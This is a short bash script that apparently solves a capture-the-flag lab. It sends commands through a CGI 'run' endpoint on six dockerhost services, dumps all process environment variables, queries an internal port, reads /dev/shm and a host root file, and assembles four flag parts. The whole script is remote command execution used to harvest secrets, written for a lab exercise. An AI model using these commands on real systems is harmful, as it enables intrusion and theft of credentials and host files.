#!/bin/bash
# Each website runs the commands it is sent. Which one reaches which piece is found out by trying all.
run() {
  curl --silent --max-time 5 --get "http://dockerhost:810$1/cgi-bin/run" --data-urlencode "cmd=$2"
}

parts=$(for n in 1 2 3 4 5 6; do
  run "$n" "cat /proc/[0-9]*/environ | tr '\\0' '\\n'"
  run "$n" 'wget -qO- http://127.0.0.1:9000/'
  run "$n" 'cat /dev/shm/*'
  run "$n" 'cat /host/root/flag.txt'
done | grep -ao 'flag part [1-4] of 4: [0-9a-f]*' | sort -u)
printf '%s\n' "$parts"
[ "$(grep -c . <<<"$parts")" = 4 ] && printf 'FLAG{%s}\n' "$(cut -d ' ' -f 6 <<<"$parts" | tr -d '\n')"
